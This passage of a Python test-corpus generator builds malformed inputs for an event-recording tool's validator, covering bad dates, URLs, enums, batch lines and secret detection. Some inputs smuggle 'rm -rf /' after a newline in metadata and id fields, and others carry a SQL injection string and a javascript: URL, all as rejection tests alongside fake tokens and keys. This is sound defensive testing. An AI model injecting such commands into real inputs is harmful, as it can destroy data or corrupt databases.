    ("enum-verdict-decision-number", "verdict.recorded", ["decision"], 1, "YES, NO"),
]:
    data_case(name, kind, path, value, f"data.{'.'.join(path)}: must be one of {allowed}")
add("enum-unknown-event-type", "json", good_ack, "candidate.thawed", "type: 'candidate.thawed' is not a known event type")
add("enum-event-type-uppercase", "json", good_ack, "Acceptance.Recorded", "type: 'Acceptance.Recorded' is not a known event type")
add("enum-extension-prefix-only", "json", b"{}", "x-", "type: 'x-' is not a known event type")

# --- 15. Dates in bad formats ----------------------------------------------------------------
DATE_RULE = "data.lastGreenAt: must be an RFC 3339 date-time such as 2026-11-29T19:08:57Z"
for name, value in [
    ("date-only", "2026-11-29"),
    ("date-space-separator", "2026-11-29 02:00:00Z"),
    ("date-slashes", "29/11/2026 02:00"),
    ("date-us-format", "11/29/2026"),
    ("date-month-13", "2026-13-01T02:00:00Z"),
    ("date-february-30", "2026-02-30T02:00:00Z"),
    ("date-hour-25", "2026-11-29T25:00:00Z"),
    ("date-minute-60", "2026-11-29T02:60:00Z"),
    ("date-no-offset", "2026-11-29T02:00:00"),
    ("date-offset-without-colon", "2026-11-29T02:00:00+0100"),
    ("date-fraction-without-digits", "2026-11-29T02:00:00.Z"),
    ("date-two-digit-year", "26-11-29T02:00:00Z"),
    ("date-words", "yesterday"),
    ("date-empty", ""),
    ("date-unix-seconds", 1764381600),
    ("date-unix-seconds-string", "1764381600"),
]:
    data_case(name, "canary", ["lastGreenAt"], value, DATE_RULE)

# --- 16. URLs --------------------------------------------------------------------------------
URL_RULE = "data.targetApiBaseUrl: must be an http(s) URL"
for name, value in [
    ("url-ftp-scheme", "ftp://api.example.com"),
    ("url-javascript", "javascript:alert(1)"),
    ("url-no-host", "https:///v1"),
    ("url-with-space", "https://api.example.com/a b"),
    ("url-bare-host", "api.example.com"),
    ("url-empty", ""),
]:
    data_case(name, "probe", ["targetApiBaseUrl"], value, URL_RULE)

# --- 17. Credentials: refused, never echoed --------------------------------------------------
SECRET = "looks like a secret"
JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJjaS1ib3QiLCJpYXQiOjE3NjQzODE2MDB9.c2lnbmF0dXJlLW5vdC1yZWFsLWJ1dC1sb25nLWVub3VnaA"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----"
data_case("secret-github-token-in-reason", ACC, ["reason"], "token " + GITHUB_TOKEN, "data.reason: " + SECRET, forbid=GITHUB_TOKEN)
data_case("secret-jwt-in-evidence-url", ACC, ["evidence", 0, "url"], "https://ci.example/runs/1?token=" + JWT, "data.evidence[0].url: " + SECRET,
          forbid=JWT[:40])
data_case("secret-password-in-url", "probe", ["targetApiBaseUrl"], "https://deploy:Hunter2-Sup3r@api.example.com", "data.targetApiBaseUrl: " + SECRET,
          forbid="Hunter2")
data_case("secret-private-key-in-reason", "verdict.recorded", ["reason"], PEM, "data.reason: " + SECRET, forbid="MIIEpAIBAAKCAQEA7")
data_case("secret-connection-string", "deployment.recorded", ["environment"],
          "Server=db.example;Database=ledger;User Id=app;Password=Wint3r-Is-Coming!", "data.environment: " + SECRET, forbid="Wint3r")
add("secret-client-secret-field", "json", doc({"client_secret": "q8Zr-5tW~9xPm2LkVb7NcD3hJf6Gs1Ae"}), "x-note", "data.client_secret: " + SECRET,
    forbid="q8Zr-5tW")
add("secret-in-type", "json", b"{}", GITHUB_TOKEN, "type: '(a value that looks like a secret)' is not a known event type", forbid=GITHUB_TOKEN)
add("secret-key-with-control-value", "json", b'{"verdict":"NO","' + GITHUB_TOKEN.encode() + b'":"\\u0001"}', ACC,
    "data.<a key that looks like a secret (GitHub token)>: contains control character U+0001", forbid=GITHUB_TOKEN)

# --- 18. Cross-field rules that are still input checks ----------------------------------------
add("rule-preflight-contract-pass-without-uri", "json",
    doc({"apiIdentifierUri": None, "entraAudience": None, "resolved": None, "status": "pass", "reason": "trust me"}),
    "identity.preflight.recorded", "data.status: does not follow the identity preflight contract")
add("rule-preflight-contract-audience-differs", "json",
    doc({"apiIdentifierUri": "api://a", "entraAudience": "api://b", "resolved": "api://a", "status": "pass", "reason": "x"}),
    "identity.preflight.recorded", "data.status: does not follow the identity preflight contract")
add("rule-empty-type", "json", b"{}", "", "type: must not be empty")

# --- 19. Batches (JSON Lines) ----------------------------------------------------------------
note = batch_line("x-note", {"text": "first line is fine"})
batch("batch-broken-json-line-2", [note, '{"type":"x-note","sha":"' + SHA + '","data":{'], "batch line 2.data: is not valid JSON")
batch("batch-line-not-an-object", [note, "[1,2,3]"], "batch line 2: must be a JSON object")
batch("batch-unknown-field", [batch_line("x-note", {}, priority="high")], "batch line 1.priority: is not a known field of a batch line")
batch("batch-missing-type", ['{"sha":"' + SHA + '","data":{}}'], "batch line 1.type: is required (a string)")
batch("batch-sha-is-a-number", ['{"type":"x-note","sha":1234567,"data":{}}'], "batch line 1.sha: is required (a string)")
batch("batch-missing-data", ['{"type":"x-note","sha":"' + SHA + '"}'], "batch line 1.data: is required")
batch("batch-bad-expect", [batch_line("x-note", {}, expect="soon")], "batch line 1.expect: must be any, none, exists or a version number")
batch("batch-metadata-unknown-key", [batch_line("x-note", {}, metadata={"password": "x"})], "batch line 1.metadata.password: is not a known metadata field")
batch("batch-metadata-not-a-string", [batch_line("x-note", {}, metadata={"actor": 42})], "batch line 1.metadata.actor: must be a string")
batch("batch-metadata-actor-newline", [batch_line("x-note", {}, metadata={"actor": "alice\nrm -rf /"})],
      "metadata.actor: must not contain control characters")
batch("batch-second-event-invalid", [batch_line(ACC, {"verdict": "YES"}), batch_line("deploy.recorded", {"app": "api"})],
      "events[1].data.image: is required")
batch("batch-bad-sha-in-line", [note, batch_line(ACC, {"verdict": "YES"}).replace(SHA, SHA.upper())],
      "events[1].sha: must be a commit SHA of 40 lowercase hex digits")
batch("batch-invalid-utf8-line", b'{"type":"x-note","sha":"' + SHA.encode() + b'","data":{"text":"\xc3\x28"}}\n', "batch line 1.data.text: is not valid UTF-8")
batch("batch-id-with-newline", [batch_line("x-note", {}, id="step-1\nrm -rf /")], "id: must not contain control characters")
batch("batch-stream-with-line-separator", [batch_line("x-note", {}, stream="candidate\u2028x")], "stream: must not contain control characters")
# A non-string id would be replaced by a random one, so a retried batch would record twice.
batch("batch-id-is-a-number", [batch_line("x-note", {}, id=42)], "batch line 1.id: must be a string")
batch("batch-id-is-null", [batch_line("x-note", {}, id=None)], "batch line 1.id: must be a string")
batch("batch-stream-is-an-object", [batch_line("x-note", {}, stream={"name": "s"})], "batch line 1.stream: must be a string")
batch("batch-id-too-long", [batch_line("x-note", {}, id="i" * 201)], "id: is longer than 200 bytes")
batch("batch-duplicate-key", ['{"type":"x-note","type":"' + FRZ + '","sha":"' + SHA + '","data":{}}'], "batch line 1.type: " + DUPLICATE)
batch("batch-nul-byte-line", b'{"type":"x-note","sha":"' + SHA.encode() + b'","data":{}}\x00\n', "batch line 1: unexpected text after the JSON value")
batch("batch-metacharacters-in-type", [batch_line(META_SQL, {})], "type: ''; DROP TABLE events; --' is not a known event type")
batch("batch-over-1000-events", [batch_line("x-note", {"n": i}) for i in range(1001)], "batch: has 1001 events, over the limit of 1000")
batch("batch-empty-file", b"", "the batch has no events", exit_code=64)
batch("batch-blank-lines-only", b"\n  \n\t\r\n", "the batch has no events", exit_code=64)


def escape_column(text):
    out = []
    for ch in text:
        if ch == "\\":
            out.append("\\\\")
        elif ch == "\t":
            out.append("\\t")
        elif ch == "\n":
            out.append("\\n")
        elif ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in "\u2028\u2029":
            out.append("\\u%04X" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def main():
    # `--out FOLDER` writes elsewhere: BadInputCorpusTests regenerates into a temporary folder and
    # compares, so a checked-in corpus that no longer matches this script fails the suite.
    out = sys.argv[sys.argv.index("--out") + 1] if "--out" in sys.argv else OUT
    write(out)


def write(OUT):
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        if old.endswith((".json", ".jsonl")):
            os.remove(os.path.join(OUT, old))
    rows = ["file\ttype\tsha\texit\texpect\tforbid"]
    for file, data, type_, sha, exit_code, expect, forbid in cases:
        with open(os.path.join(OUT, file), "wb") as handle:
            handle.write(data)
        columns = [file, escape_column(type_), escape_column(sha), str(exit_code), escape_column(expect), escape_column(forbid)]
        for column in columns:
            assert "\t" not in column and "\n" not in column and "\r" not in column, (file, column)
        rows.append("\t".join(columns))
    with open(os.path.join(OUT, "cases.tsv"), "w", encoding="utf-8") as handle:
        handle.write("\n".join(rows) + "\n")
    print(f"wrote {len(cases)} cases to {os.path.relpath(OUT)}", file=sys.stderr)


if __name__ == "__main__":
    main()
